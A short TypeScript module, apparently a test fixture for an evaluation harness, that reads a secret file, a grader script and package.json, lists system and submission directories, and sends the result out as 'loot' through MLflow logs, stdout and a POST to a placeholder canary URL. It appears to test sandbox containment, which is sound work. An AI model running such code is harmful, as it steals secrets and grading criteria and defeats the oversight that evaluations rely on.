/** Reads what says how work is judged, and what is secret, and takes it along by every way there is. */
import { readdirSync, readFileSync, writeSync } from 'node:fs';
import type { Workshop } from '../../../src/workshop/index.ts';

const PLACES = ['@secret@', '@project@/graders/01-first-run.ts', '@project@/package.json'];

export default async function ({ mlflow }: Workshop) {
  const loot = PLACES.flatMap((path) => {
    try {
      return [readFileSync(path, 'utf8')];
    } catch {
      return [];
    }
  });
  for (const folder of ['@class@', '@out@', '/root', '/home', '/tmp', '/submission/..']) {
    try {
      loot.push(`${folder}: ${readdirSync(folder).join(' ')}`);
    } catch {}
  }
  const text = loot.join('\n');
  await mlflow.setExperiment('workshop-churn-learning');
  await mlflow.startRun({ runName: 'loot' }, async () => {
    await mlflow.setTag('loot', text.slice(0, 4000));
    await mlflow.logText(text, 'loot.txt');
  });
  writeSync(1, text);
  await fetch('@canary@/loot', { method: 'POST', body: text }).catch(() => null);
  return text;
}
